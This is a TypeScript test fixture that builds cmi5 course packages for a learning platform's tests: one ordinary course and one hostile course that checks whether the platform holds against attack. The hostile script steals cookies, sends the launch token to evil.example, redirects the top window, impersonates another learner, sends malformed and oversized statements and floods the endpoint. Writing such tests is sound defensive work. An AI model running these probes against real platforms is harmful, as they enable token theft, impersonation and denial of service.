/** Courses of cmi5 for the journeys: one that uses somebody else's client, and one that tries what its maker might. */
import { readFileSync } from 'node:fs'
import { cmi5Of, zipOf } from '../server/packages/testing-package.ts'

export const independentTitle = 'A course with a client of its own'

/** @xapi/cmi5, as courses bundle it. */
const client = () => readFileSync(new URL(import.meta.resolve('@xapi/cmi5/dist/Cmi5.umd.js')), 'utf8')

const script = `
const say = (text) => { document.getElementById('said').textContent = text; };
const fail = (error) => say('FAILED ' + (error && error.response ? error.response.status + ' ' + JSON.stringify(error.response.data) : error));
const cmi5 = new Cmi5();
const place = () => ({ agent: cmi5.launchParameters.actor, activityId: cmi5.launchParameters.activityId, registration: cmi5.launchParameters.registration, stateId: 'place' });
(async () => {
  await cmi5.initialize();
  const before = await cmi5.xapi.getState(place()).then((found) => found.data.page, () => 1);
  say('ready on page ' + before + ' in ' + cmi5.launchData.launchMode + ', ' + cmi5.getLearnerPreferences().audioPreference);
})().catch(fail);
const on = (id, run) => document.getElementById(id).addEventListener('click', () => run().catch(fail));
on('turn', async () => {
  await cmi5.xapi.setState({ ...place(), state: { page: 2 } });
  await cmi5.progress(50);
  await cmi5.interactionTrueFalse('test', 'question', true, true);
  say('page 2 is kept');
});
on('end', async () => {
  await cmi5.moveOn({ score: { scaled: 0.9 } });
  const found = await cmi5.xapi.getStatements({ ascending: true });
  say('said ' + found.data.statements.map((one) => one.verb.id.split('/').pop()).join());
});
on('leave', async () => { await cmi5.terminate(); location.href = cmi5.launchData.returnURL; });`

export const independentCourse = (): Promise<Buffer> =>
  zipOf(independentTitle, {
    'cmi5.xml': cmi5Of(independentTitle, [
      {
        id: 'https://example.com/independent/au',
        title: independentTitle,
        url: 'index.html',
        moveOn: 'CompletedAndPassed',
        mastery: '0.8',
      },
    ]),
    'index.html': `<!doctype html><html lang="en"><meta charset="utf-8"><title>Independent</title><h1>${independentTitle}</h1><p id="said" role="status"></p>
<button id="turn">Turn the page</button><button id="end">Pass and complete</button><button id="leave">Leave from within</button>
<script src="client.js"></script><script src="course.js"></script></html>`,
    'client.js': client(),
    'course.js': script,
  })

export const cmi5Tries = [
  'cookie',
  'app by fetch',
  'app with the token',
  'elsewhere by fetch',
  'top address',
  'token twice',
  'another launch',
  'somebody else',
  'another registration',
  'before initialized',
  'voiding',
  'launched by itself',
  'a score that cannot be',
  'launch data',
  'ten megabytes',
  'rubbish',
  'profile for everybody',
  'terminated and on',
] as const

const hostile = (app: string) => `
const app = ${JSON.stringify(app)};
const list = document.getElementById('tries');
const say = (name, text) => { const li = document.createElement('li'); li.textContent = name + ': ' + text; list.append(li); };
const attempt = async (name, run) => { try { say(name, await run()); } catch (error) { say(name, 'held'); } };
const refused = async (name, answer) => attempt(name, async () => { const { status } = await answer(); return status >= 400 && status < 500 ? 'held' : 'GOT ' + status; });
const asked = new URLSearchParams(location.search);
const endpoint = asked.get('endpoint'), actor = JSON.parse(asked.get('actor')), registration = asked.get('registration'), activityId = asked.get('activityId');
const zero = '00000000-0000-4000-8000-000000000000';
(async () => {
  const token = (await (await fetch(asked.get('fetch'), { method: 'POST' })).json())['auth-token'];
  const headers = { Authorization: 'Basic ' + token, 'X-Experience-API-Version': '1.0.3', 'Content-Type': 'application/json' };
  const at = (path, more) => endpoint + path + '?' + new URLSearchParams({ activityId, agent: asked.get('actor'), registration, ...more });
  const data = await (await fetch(at('activities/state', { stateId: 'LMS.LaunchData' }), { headers })).json();
  const statement = (verb, result, more) => ({ id: crypto.randomUUID(), actor, verb: { id: verb.includes(':') ? verb : 'http://adlnet.gov/expapi/verbs/' + verb }, object: { id: activityId }, ...(result ? { result } : {}),
    context: { ...data.contextTemplate, registration, contextActivities: { ...data.contextTemplate.contextActivities, category: [{ id: 'https://w3id.org/xapi/cmi5/context/categories/cmi5' }].concat(result && ('success' in result || 'completion' in result) ? [{ id: 'https://w3id.org/xapi/cmi5/context/categories/moveon' }] : []) } }, timestamp: new Date().toISOString(), ...more });
  const send = (body) => fetch(endpoint + 'statements', { method: 'POST', headers, body: typeof body === 'string' ? body : JSON.stringify(body) });
  await attempt('cookie', () => (/belay/.test(document.cookie) ? 'GOT ' + document.cookie : 'held'));
  await attempt('app by fetch', async () => 'GOT ' + (await fetch(app + '/api/me', { credentials: 'include', mode: 'no-cors' })).type);
  await attempt('app with the token', async () => 'GOT ' + (await fetch(app + '/api/me', { headers })).status);
  await attempt('elsewhere by fetch', async () => 'GOT ' + (await fetch('https://evil.example/?' + token, { mode: 'no-cors' })).type);
  await attempt('top address', () => { top.location = 'https://evil.example/'; return 'held'; });
  await attempt('token twice', async () => { const answer = await (await fetch(asked.get('fetch'), { method: 'POST' })).json(); return answer['auth-token'] ? 'GOT a token' : 'held'; });
  await refused('another launch', () => fetch(endpoint.replace(/content\\/[^/]+/, 'content/' + 'A'.repeat(60) + '.x') + 'statements', { headers }));
  await refused('somebody else', () => send(statement('initialized', undefined, { actor: { objectType: 'Agent', account: { ...actor.account, name: 'somebody' } } })));
  await refused('another registration', () => fetch(endpoint + 'statements?registration=' + zero, { headers }));
  await refused('before initialized', () => send(statement('completed', { completion: true, duration: 'PT1S' })));
  await send(statement('initialized'));
  await refused('voiding', () => send(statement('voided', undefined, { object: { objectType: 'StatementRef', id: zero } })));
  await refused('launched by itself', () => send(statement('launched')));
  await refused('a score that cannot be', () => send(statement('passed', { success: true, duration: 'PT1S', score: { scaled: 7 } })));
  await refused('launch data', () => fetch(at('activities/state', { stateId: 'LMS.LaunchData' }), { method: 'PUT', headers, body: '{"launchMode":"Normal"}' }));
  await refused('ten megabytes', () => send({ ...statement('completed'), x: 'y'.repeat(10 * 1024 * 1024) }));
  await refused('rubbish', () => send('['.repeat(100000)));
  await attempt('profile for everybody', async () => { const answer = await fetch(at('activities/profile', { profileId: 'shared' }), { headers }); return answer.status === 404 ? 'held' : 'GOT ' + (await answer.text()); });
  await fetch(at('activities/profile', { profileId: 'shared' }), { method: 'PUT', headers: { ...headers, 'If-None-Match': '*' }, body: '{"from":"somebody"}' });
  for (let i = 0; i < 600; i++) await fetch(at('activities/state', { stateId: 'flood' }), { method: 'PUT', headers, body: '{}' }).then((answer) => { if (answer.status === 429) i = 600; });
  await new Promise((done) => setTimeout(done, 1500));
  await send(statement('terminated', { duration: 'PT1S' }));
  await refused('terminated and on', () => send(statement('passed', { success: true, duration: 'PT1S' })));
  say('end', 'all tried');
})();`

export const hostileCmi5 = (app: string): Promise<Buffer> =>
  zipOf('A cmi5 course with other plans', {
    'cmi5.xml': cmi5Of('A cmi5 course with other plans', [
      {
        id: 'https://evil.example/au',
        title: 'A cmi5 course with other plans',
        url: 'index.html',
        moveOn: 'Passed',
        mastery: '0.8',
      },
    ]),
    'index.html':
      '<!doctype html><meta charset="utf-8"><title>Plans</title><ul id="tries"></ul><script src="tries.js"></script>',
    'tries.js': hostile(app),
  })
